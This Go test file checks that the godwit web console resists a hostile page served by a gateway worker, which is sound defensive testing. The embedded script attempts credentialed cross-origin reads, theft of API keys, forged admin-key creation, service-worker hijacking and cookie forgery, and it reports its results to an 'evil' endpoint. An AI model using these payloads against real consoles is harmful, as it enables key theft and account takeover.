package attack

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	godwit "godwit.dev/godwit/clients/go"
	"godwit.dev/godwit/test/blackbox"
	"godwit.dev/godwit/test/blackbox/chromium"
)

// hostilePage attacks the web console at %s with everything that a script can do, and reports the results to its worker.
const hostilePage = `<!doctype html><title>shown</title><body><iframe id="frame" name="frame"></iframe>
<form id="form" method="post" target="frame"><input name="name" value="stolen"><input name="role" value="admin"></form>
<script>
document.title = "ran";
(async () => {
	const console = %q, got = [];
	const attempt = async (name, what) => { try { if (await what()) got.push(name); } catch {} };
	const read = (path) => async () => (await (await fetch(console + path, {credentials: "include"})).text()) !== "";
	await attempt("page", read("/ui/"));
	await attempt("keys page", read("/ui/keys"));
	await attempt("keys", async () => (await (await fetch(console + "/v1/keys", {headers: {Authorization: "Bearer dev"}})).json()).items);
	await attempt("frame", () => new Promise((done) => {
		const f = document.getElementById("frame");
		f.onload = () => { try { done(f.contentDocument.body.innerText !== ""); } catch { done(false); } };
		f.src = console + "/ui/";
	}));
	await attempt("posted", async () => (await fetch(console + "/ui/keys", {method: "POST", credentials: "include", body: new URLSearchParams({name: "stolen", role: "admin"})})).ok);
	await attempt("posted unread", async () => { await fetch(console + "/ui/keys", {method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({name: "stolen", role: "admin"})}); return false; });
	await attempt("form", () => new Promise((done) => {
		document.getElementById("frame").onload = () => done(false);
		const form = document.getElementById("form");
		form.action = console + "/ui/keys";
		form.submit();
	}));
	await attempt("worker", async () => await navigator.serviceWorker.register("/gw/evil/sw.js", {scope: "/"}));
	document.cookie = "godwit=forged; path=/ui";
	await fetch("/gw/evil/report", {method: "POST", body: JSON.stringify(got)});
})();
</script>`

// awaited makes the browser wait for a promise.
func awaited(p *runtime.EvaluateParams) *runtime.EvaluateParams { return p.WithAwaitPromise(true) }

// evil is a worker behind the gateway.
type evil struct {
	console string
	reports chan []string
}

// ServeHTTP implements http.Handler.
func (e *evil) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	switch h := w.Header(); r.URL.Path {
	case "/":
		h.Set("Content-Type", "text/html")
		h.Add("Set-Cookie", "godwit=forged; Path=/")
		h.Add("Set-Cookie", "=godwit=forged; Path=/")
		h.Set("Clear-Site-Data", `"*"`)
		h.Set("Content-Security-Policy", "sandbox allow-scripts allow-same-origin allow-forms")
		h.Set("Service-Worker-Allowed", "/")
		_, _ = fmt.Fprintf(w, hostilePage, e.console)
	case "/sw.js":
		h.Set("Content-Type", "text/javascript")
		h.Set("Service-Worker-Allowed", "/")
		_, _ = io.WriteString(w, `addEventListener("fetch", (e) => e.respondWith(new Response("taken over")))`)
	case "/report":
		var got []string
		_ = json.NewDecoder(r.Body).Decode(&got) // what is none is empty
		e.reports <- got
	}
}

// work serves the service evil to everybody.
func (e *evil) work(t *testing.T, s *blackbox.Server) {
	t.Helper()
	if a, err := s.API().Do(t.Context(), http.MethodPut, "/v1/gateway/evil", map[string]string{"access": "public"}); err != nil || a.Status != http.StatusOK {
		t.Fatalf("open the service: %+v, %v", a, err)
	}
	c, err := godwit.New("http://"+s.HTTP, godwit.WithAPIKey("dev"))
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	ready, ended := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(ended)
		_ = c.Serve(ctx, "worker", []string{"evil.>"}, godwit.HTTP(e), godwit.OnServing(func() { close(ready) }))
	}()
	t.Cleanup(func() { cancel(); <-ended; c.Close() })
	select {
	case <-ready:
	case <-time.After(blackbox.Patience):
		t.Fatal("the worker does not serve")
	}
}

// signedIn starts a browser that has signed in to the console.
func signedIn(t *testing.T, s *blackbox.Server) context.Context {
	t.Helper()
	ctx := chromium.Start(t, 2*blackbox.Patience)
	if err := chromedp.Run(ctx, chromedp.Navigate(s.URL("/")), chromedp.SendKeys("#key", "dev", chromedp.ByQuery), chromedp.Submit("#key", chromedp.ByQuery),
		chromedp.WaitVisible(`form[action="/ui/sign-out"]`, chromedp.ByQuery)); err != nil {
		t.Fatalf("sign in: %v", err)
	}
	return ctx
}

// unharmed fails if the hostile page has changed anything in the console.
func unharmed(t *testing.T, ctx context.Context, s *blackbox.Server) {
	t.Helper()
	var workers int
	if err := chromedp.Run(ctx, chromedp.Navigate(s.URL("/ui/keys")), chromedp.WaitVisible("#make", chromedp.ByQuery),
		chromedp.Evaluate(`navigator.serviceWorker.getRegistrations().then((all) => all.length)`, &workers, awaited)); err != nil {
		t.Fatalf("open the console again: %v", err)
	}
	if workers != 0 {
		t.Errorf("the console's origin has %d service workers", workers)
	}
	a, err := s.API().Do(t.Context(), http.MethodGet, "/v1/keys", nil)
	if err != nil || strings.Contains(string(a.Body), "stolen") {
		t.Errorf("the keys are %s, %v", a.Body, err)
	}
}

func TestAWorkersPageDoesNothingInTheConsole(t *testing.T) {
	blackbox.Long(t)
	s := blackbox.Start(t, blackbox.Dev(), blackbox.Plain())
	e := &evil{console: "http://" + s.HTTP, reports: make(chan []string, 1)}
	e.work(t, s)
	ctx := signedIn(t, s)
	var title string
	if err := chromedp.Run(ctx, chromedp.Navigate(s.URL("/gw/evil/")), chromedp.Title(&title)); err != nil {
		t.Fatal(err)
	}
	if title != "shown" {
		t.Errorf("on the console's origin the page's script runs: its title is %q", title)
	}
	unharmed(t, ctx, s)
	select {
	case got := <-e.reports:
		t.Errorf("the page reports %q", got)
	default:
	}
}

func TestAWorkersPageOnAnOriginOfItsOwnDoesNothingInTheConsole(t *testing.T) {
	blackbox.Long(t)
	s := blackbox.Start(t, blackbox.Dev(), blackbox.Plain(), blackbox.Args("--gateway-addr", "127.0.0.1:0"))
	at, err := s.Addresses()
	if err != nil || at.Gateway == "" {
		t.Fatalf("the gateway does not listen: %+v, %v", at, err)
	}
	e := &evil{console: "http://" + s.HTTP, reports: make(chan []string, 1)}
	e.work(t, s)
	ctx := signedIn(t, s)
	if err := chromedp.Run(ctx, chromedp.Navigate("http://"+at.Gateway+"/gw/evil/")); err != nil {
		t.Fatal(err)
	}
	select {
	case got := <-e.reports:
		if len(got) > 0 {
			t.Errorf("the page gets %q of the console", slices.Sorted(slices.Values(got)))
		}
	case <-time.After(blackbox.Patience):
		t.Fatal("the page's script does not run on an origin of its own")
	}
	unharmed(t, ctx, s)
}
